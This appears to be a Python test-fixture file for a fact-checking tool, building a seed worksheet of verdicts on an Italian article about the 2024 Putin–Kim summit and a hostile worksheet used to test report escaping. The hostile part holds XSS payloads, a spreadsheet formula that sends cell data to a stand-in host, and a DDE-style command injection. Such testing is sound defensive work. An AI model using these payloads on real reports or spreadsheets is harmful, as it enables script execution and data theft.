"""Worksheets for the export tests (tests/reports/test_export.py, tests/reports/test_report_browser.py).

``seed_worksheet(folder)``: the seed article's worksheet in ``folder/claims/``, with a copy of the
repository's demo source registry in ``folder/sources/``, a few verdicts as a checker would set
them and, when the worksheet has the evidence API, passages linked from the demo sources.

``hostile_worksheet(folder)``: an article, verdicts, a source and links whose every text tries to
run script in the HTML report or a formula in a spreadsheet.
"""

from __future__ import annotations

import shutil
from pathlib import Path

from verify.records.workspace import DEMO_SOURCES  # the shipped, read-only demo registry
import verify
from verify import Worksheet

ROOT = Path(__file__).resolve().parent.parent

# (claim text, words of its sentence) -> (verdict, rationale, checker, free-text sources)
SEED_VERDICTS = {
    ("più di 10.000 container", "La Russia ha ricevuto"): (
        "mostly true",
        "The State Department fact sheet (via Yonhap, February 2024) gives more than 10,000 "
        "containers since September 2023; South Korea's defence minister said about 6,700.\n"
        "The count is an estimate, and the article drops its source.",
        "Anna Bianchi", "State Department fact sheet, Feb 2024"),
    ("260.000 tonnellate", "La Russia ha ricevuto"): (
        "unverifiable",
        "No source found for 260,000 tonnes; the closest independent estimate (C4ADS) is "
        "74,000 metric tons of explosives.", "Anna Bianchi", ""),
    ("24 anni", "esattamente 24 anni"): (
        "false",
        "By the article's own dates (19 July 2000, 19 June 2024) the gap is 23 years and 11 "
        "months, not exactly 24 years.", "Luca Verdi", ""),
    ("almeno 10 missili", "Un funzionario americano"): (
        "true", "The State Department counted at least 10 North Korean missiles by March.",
        "Luca Verdi", "unn.ua, citing the State Department"),
    ("19 luglio 2000", "stringe la mano"): (
        "true", "Putin's first visit to Pyongyang: 19-20 July 2000 (ABC News, 19 July 2000).",
        "Anna Bianchi", ""),
}
# claim -> words of the demo source's passage to link, and the stance
SEED_LINKS = {
    ("più di 10.000 container", "La Russia ha ricevuto"): [
        ("more than 10,000 containers", "supports"), ("about 6,700", "context")],
    ("almeno 10 missili", "Un funzionario americano"): [("at least 10", "supports")],
}


def claim_for(ws: Worksheet, text: str, within: str = ""):
    """The claim whose words are ``text`` in a sentence holding ``within``."""
    found = [c for c in ws.claims if c.text == text and within in c.sentence]
    assert len(found) == 1, f"{len(found)} claims {text!r} in a sentence with {within!r}"
    return found[0]


def seed_worksheet(folder: Path, *, links: bool = True) -> Worksheet:
    (folder / "claims").mkdir(parents=True, exist_ok=True)
    if links and not (folder / "sources").exists():
        shutil.copytree(DEMO_SOURCES, folder / "sources",
                        ignore=shutil.ignore_patterns("*.py", "*.lock", ".*"))
    ws = Worksheet.open(folder / "claims" / "putin-kim-2024-it.csv", article=verify.SEED_ARTICLE)
    for (text, within), (label, rationale, checker, sources) in SEED_VERDICTS.items():
        ws.set_verdict(claim_for(ws, text, within).claim_id, label, rationale=rationale,
                       checker=checker, sources=sources)
    if links:
        for (text, within), wanted in SEED_LINKS.items():
            claim = claim_for(ws, text, within)
            passages = ws.suggest_evidence(claim.claim_id, limit=20)
            for words, stance in wanted:
                passage = next(p for p in passages if words in p.text)
                ws.link_evidence(claim.claim_id, passage, stance, checker="Anna Bianchi")
    return ws


# --- hostile input ------------------------------------------------------------------------------

HOSTILE_ARTICLE = """\
<script>alert('title')</script> Vertice a Roma: 5 missili <img src=x onerror=alert('headline')>

Il 19 giugno 2024 sono stati lanciati più di 10 missili <img src=x onerror=alert('body')> contro la città di Odessa.

Secondo il ministero, <script>alert("body2")</script> almeno 300 persone sono state evacuate in 3 giorni.
"""
HOSTILE_RATIONALE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\n"
                     "</div><script>alert('rationale')</script><img src=x onerror=alert('r')>")
HOSTILE_CHECKER = "@<svg onload=alert('checker')>"
HOSTILE_SOURCES = "+cmd|' /C calc'!A0 <iframe src=javascript:alert('sources')>"
HOSTILE_SOURCE_TEXT = ("<script>alert('source')</script> Officials said more than 10 missiles "
                       "<img src=x onerror=alert('passage')> were launched on 19 June 2024.")
HOSTILE_SOURCE_URL = "https://example.org/a?x=\"><script>alert('url')</script>"
HOSTILE_SOURCE_TITLE = "<img src=x onerror=alert('source title')>"
# Every string above that must reach the report as visible text (not dropped, not markup).
HOSTILE_TEXTS = ["<script>alert('title')</script>", "<img src=x onerror=alert('body')>",
                 "<script>alert(\"body2\")</script>", "</div><script>alert('rationale')</script>",
                 "<svg onload=alert('checker')>"]


def hostile_worksheet(folder: Path) -> Worksheet:
    """The hostile article's worksheet with a verdict on every claim of its second paragraph,
    and, when the evidence API is there, a hostile source's passage linked."""
    (folder / "claims").mkdir(parents=True, exist_ok=True)
    article = folder / "hostile.txt"
    article.write_text(HOSTILE_ARTICLE, encoding="utf-8")
    ws = Worksheet.open(folder / "claims" / "hostile.csv", article=article)
    for claim in ws.claims:
        if "Odessa" in claim.sentence or "Vertice" in claim.sentence:
            ws.set_verdict(claim.claim_id, "false", rationale=HOSTILE_RATIONALE,
                           checker=HOSTILE_CHECKER, sources=HOSTILE_SOURCES)
    source = ws.add_source(text=HOSTILE_SOURCE_TEXT, url=HOSTILE_SOURCE_URL,
                           title=HOSTILE_SOURCE_TITLE, publisher="<b>Evil</b>")
    claim = claim_for(ws, "più di 10 missili", "Odessa")
    passage = ws.suggest_evidence(claim.claim_id, source_ids=[source.source_id])[0]
    ws.link_evidence(claim.claim_id, passage, "supports", checker=HOSTILE_CHECKER,
                     note="<script>alert('note')</script>")
    return ws
